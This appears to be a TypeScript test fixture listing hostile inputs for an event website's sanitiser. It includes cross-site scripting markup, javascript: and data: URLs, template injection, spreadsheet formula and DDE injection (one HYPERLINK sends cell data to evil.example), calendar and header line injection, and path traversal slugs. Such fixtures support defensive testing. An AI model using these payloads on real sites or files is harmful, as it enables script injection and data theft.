/** Defines `pwned` on a page that runs it. */
const script = '<script>pwned=1;alert(1)</script>';

/** Texts that anybody who may write events could type as a name or a title. */
export const texts = [
  script,
  `</script>${script}`,
  `<!--<script>pwned=1`,
  `]]>${script}<![CDATA[`,
  `"><img src=x onerror=pwned=1>`,
  `' autofocus onfocus='pwned=1' onmouseover='pwned=1`,
  `</title></textarea></style></noscript></template></svg><svg onload=pwned=1>`,
  `{{constructor.constructor('pwned=1')()}} \${pwned=1} <%= pwned=1 %> {% raw %} {pwned=1}`,
  'javascript:pwned=1',
  '=HYPERLINK("https://evil.example/?"&A1,"Prices")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'مهرجان الموسيقى الشعبية في ساحة المدينة',
  'Concert \u202e\u2066gpj.exe\u202d of the \u2067choir',
  'W'.repeat(500),
  'Long live the understudies! '.repeat(18).trim(),
  '👩‍👩‍👧‍👦🏳️‍🌈🎉'.repeat(60),
  'One line\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Another\r\nX-EVIL;VALUE=URI:javascript:pwned=1',
  '%3Cscript%3Epwned=1%3C/script%3E &lt;script&gt;pwned=1&lt;/script&gt; &#60;script&#62;',
  'a\u0000b\u001b[31m\u0007c\u0085d\ufffe\u2028e',
  `Z${'\u0351\u036b\u0343\u036a\u0302\u033b'.repeat(20)}algo`,
  '\\ , ; : \\n \\N \\" ^n ^\' %0d%0aX-EVIL:1',
  '__proto__',
  // Nothing visible.
  ' \u00a0\u2003\t ',
  '\u200b\u200d\u2060\ufeff\u200e\u00ad',
  '\u3164\u2800',
  // Letters of several scripts.
  'Đêm nhạc Việt Nam ở Tres Fuentes: Ρεμπέτικα & 春',
  'مرحبا Welcome שלום',
  '日本語の夕べ 2026',
] as const;

/** An ordinary address that cannot be broken over lines. */
const address =
  'https://commons.wikimedia.org/wiki/File:Iglesia_de_San_Juan_Bautista_fachada_principal_2019.jpg';

/** Malicious markup for a description: none of it may come out unchanged. */
export const markup = [
  `<p>Before${script}after</p>`,
  '<p onclick="pwned=1" style="position:fixed;inset:0" id="main" class="agenda" dir="evil" lang="<">Click</p>',
  '<a href="javascript:pwned=1">one</a> <a href=" java&#10;script:pwned=1">two</a> <a href="&#1;javascript:pwned=1">three</a>',
  '<a href="data:text/html,<script>pwned=1</script>">four</a> <a href="vbscript:pwned=1">five</a> <a href="//evil.example/">six</a>',
  '<img src=x onerror=pwned=1><img src="javascript:pwned=1"><img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22pwned=1%22/>" alt="drawing">',
  '<svg onload=pwned=1><style><img src=x onerror=pwned=1></style><foreignObject><p>in</p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>',
  '<iframe src="javascript:pwned=1"></iframe><iframe src="https://evil.example/" srcdoc="<script>pwned=1</script>" title="Play"></iframe>',
  '<video><source src="javascript:pwned=1"><source src="data:text/html,<script>pwned=1</script>"><a href="javascript:pwned=1" onclick=pwned=1>film</a></video><audio title=\'"><img src=x onerror=pwned=1>\'><source src="/a.mp3" onerror=pwned=1>',
  '<object data="data:text/html,<script>pwned=1</script>"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>',
  '<style>body{display:none}@import "https://evil.example/x.css";</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/" id="search"><input name="q" autofocus onfocus=pwned=1><button>Go</button></form>',
  '<p><b><i>unclosed <table><tr><td colspan="100000" rowspan="-1">cell</p></div></article></main></body></html><p>after',
  `<table><tr>${'<td>cell of a wide table</td>'.repeat(40)}</tr></table>`,
  `<pre><code>${'x'.repeat(500)}</code></pre><p>${'y'.repeat(500)}</p><p><a href="https://example.org/${'z'.repeat(500)}">https://example.org/${'z'.repeat(500)}</a></p>`,
  [
    'blockquote',
    'div',
    'h4',
    'kbd',
    'q',
    'cite',
    'dl><dt',
    'ul><li',
    'table><caption',
    'table><tr><td',
    'figure><figcaption',
  ]
    .map((tags) => `<${tags}>${address}</${tags.split('><').toReversed().join('></')}>`)
    .join(''),
  `<p>Z${'\u0351\u036b\u0343'.repeat(200)}algo</p><p>${'&#x351;&#x36b;'.repeat(300)}</p><p>o${'\u0351\u200d<b>\u036b</b>'.repeat(200)}</p><p>${'\ufdfd'.repeat(200)}</p>`,
  `<p>${'word\u00a0'.repeat(300)}</p><p>${'a/b-c.d_'.repeat(100)}</p><p>${'\u2060w\u202fx'.repeat(300)}</p><h3>${'H'.repeat(500)}</h3>`,
  '<a href="https://example.org/">outer <a href="https://example.org/">inner</a></a><a href="https://example.org/"><h3>head<p>par</p></h3></a>',
  '<ul>loose<p>par</p><li>item<li>item<td>cell</td></ul><ol start="-9e9"><div>in</div></ol><dl><p>x</p></dl><li>alone</li><tr><td>alone</td></tr>',
  '<span><p>block in inline</p><ul><li>x</li></ul></span><em><h3>head</h3></em><q><table><caption>c<th scope="evil">h</table></q>',
  '<time datetime="bogus">then</time><time datetime="2026-13-99T99:99">then</time><abbr title="">a</abbr><h1>one</h1><h6>six</h6><p lang="xx-evil-\'">lang</p>',
  `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}`,
  '<p>\u202e\u2067\u2066overridden</p>\r\n\r\n<p>next\r\nEND:VCALENDAR</p>]]&gt; <!-- --!> <?php echo 1 ?> <![CDATA[ x ]]>',
  '<bdi dir="rtl">مرحبا</bdi><p dir="rtl">مرحبا بالعالم</p><figure><figcaption></figcaption></figure><p> &nbsp; </p>',
  '<p>&lt;script&gt;pwned=1&lt;/script&gt; &amp;lt;script&amp;gt; &#x3c;img src=x onerror=pwned=1&#x3e; &quot; &apos; &unknown;</p>',
  '<p>Write data-frame="x" into it</p>',
  '<p>Write data-frame="https://evil.example" or data-frame="https://x;script-src" or data-frame="https://*"</p>',
  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?list=%22%3E%3Cscript%3Epwned=1" title='"><img src=x onerror=pwned=1> $& $1 {provider}'></iframe>`,
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe><iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
] as const;

/**
 * Slugs that try to leave their folder, that a file system or host reads differently, or that are
 * names of our files.
 */
export const slugs = [
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e',
  '%00',
  'a%00b',
  'con',
  'aux.txt',
  'COM1',
  'lpt9.log',
  'trailing...',
  'trailing%20%20',
  'x'.repeat(500),
  '%f0%9f%8e%89'.repeat(80),
  '%3cscript%3epwned=1%3c%2fscript%3e',
  '"><img src=x onerror=pwned=1>',
  'a%20b%26c=d;e+f',
  'c%3a%5cwindows%5csystem32',
  'query?x=1#main',
  '%25%32%66%25%32e%25%32e',
  '%c0%ae%c0%ae%c0%af',
  '%e2%80%ae%e2%81%a6gpj.exe%e2%80%8b',
  '__proto__',
  'constructor',
  'index.html',
  'embed',
  'page-1.xml',
] as const;

/** For fields of a website, a telephone number or an e-mail address. */
export const addresses = [
  'javascript:pwned=1',
  ' JaVa\tScRiPt:pwned=1//https://example.org',
  'data:text/html,<script>pwned=1</script>',
  'vbscript:pwned=1',
  '//evil.example/x',
  'https://example.org/"onmouseover="pwned=1',
  "https://example.org/'><script>pwned=1</script>?a=1&amp;b=]]>",
  'https://user:secret@example.org/',
  `https://example.org/${'w'.repeat(500)}`,
  'https://xn--80ak6aa92e.example/\u202egpj',
  'https://[::1',
  'example.org/path\r\nX-EVIL:1',
] as const;
